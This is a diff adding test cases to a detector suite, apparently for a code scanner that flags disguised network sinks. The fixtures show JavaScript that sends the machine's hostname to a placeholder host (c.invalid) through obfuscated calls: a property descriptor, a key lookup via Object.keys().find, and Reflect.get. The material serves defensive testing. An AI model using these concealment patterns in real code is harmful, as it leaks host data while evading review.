@@ -10,6 +10,18 @@ import { findingsFor, runDetectorCases, type DetectorCase } from '../../support/
 
 const CASES: DetectorCase[] = [
   {
+    name: 'disguised sink: a property descriptor of the request function',
+    code: "const os = require('os'); const https = require('https');\nObject.getOwnPropertyDescriptor(https, 'get').value('https://c.invalid/?h=' + os.hostname());",
+    expect: [{ severity: 'high', line: 2, messageIncludes: 'the call is disguised (a property descriptor)' }],
+    twin: { code: "const os = require('os'); const https = require('https');\nObject.getOwnPropertyDescriptor(https, 'get').value('https://c.invalid/?v=' + os.tmpdir());" },
+  },
+  {
+    name: 'disguised sink: a key searched with Object.keys(...).find',
+    code: "const os = require('os'); const https = require('https');\nconst m = Object.keys(https).find((k) => k === 'get');\nhttps[m]('https://c.invalid/?h=' + os.hostname());",
+    expect: [{ severity: 'high', line: 3, messageIncludes: 'the call is disguised' }],
+    twin: { code: "const os = require('os'); const https = require('https');\nconst m = Object.keys(https).find((k) => k === 'get');\nhttps[m]('https://c.invalid/?v=' + os.endianness());" },
+  },
+  {
     name: 'disguised sink: Reflect.get of the request function',
     code: "const os = require('os'); const https = require('https');\nReflect.get(https, 'get')('https://c.invalid/?h=' + os.hostname());",
     expect: [{ severity: 'high', line: 2, messageIncludes: 'the call is disguised (Reflect.get)' }],
